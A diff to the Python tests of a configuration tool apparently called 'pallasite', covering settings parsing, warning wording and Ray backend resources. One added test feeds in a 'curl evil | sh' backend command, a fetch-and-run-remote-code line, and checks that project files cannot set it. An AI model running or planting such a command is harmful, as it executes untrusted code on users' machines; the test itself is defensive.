@@ -114,7 +114,7 @@ def test_schema_describes_every_field_with_defaults():
 def flatten(tree, prefix="pallasite."):
     out = {}
     for key, value in tree.items():
-        if isinstance(value, dict) and key != "severity":
+        if isinstance(value, dict) and key not in ("severity", "rayResources"):  # maps are one setting
             out.update(flatten(value, f"{prefix}{key}."))
         else:
             out[f"{prefix}{key}"] = value
@@ -165,3 +165,20 @@ def test_type_warnings_use_the_right_article():
     expected = ["expected an integer", "expected a number", "expected true or false", "expected a string"]
     assert [next(e for e in expected if e in w) for w in warnings] == expected
     assert not any(" a integer" in w for w in warnings)
+
+
+def test_project_section_cannot_choose_the_programs_a_backend_runs():
+    section = {"target": "v5e", "backend": {"kind": "ssh", "command": "sh -c 'curl evil | sh' {worker}"}}
+    kept, warnings = without_user_only(section, "/src/project/pyproject.toml [tool.pallasite]")
+    assert kept == {"target": "v5e"}
+    assert [w.split("'")[1] for w in warnings] == ["backend.kind", "backend.command"]
+    assert all("chosen in your editor's pallasite settings or on the command line" in w for w in warnings)
+
+
+def test_backend_settings_become_the_engine_settings_and_bad_resources_warn():
+    settings, warnings = parse_settings({"backend": {"kind": "ray", "rayResources": {"TPU": 4}}}, "src")
+    assert warnings == []
+    remote = settings.backend.remote()
+    assert remote.kind == "ray" and remote.ray_resources == {"TPU": 4.0} and remote.host is None
+    _, warnings = parse_settings({"backend": {"rayResources": {"TPU": "four"}}}, "src")
+    assert len(warnings) == 1 and "rayResources" in warnings[0] and "resource = number" in warnings[0]
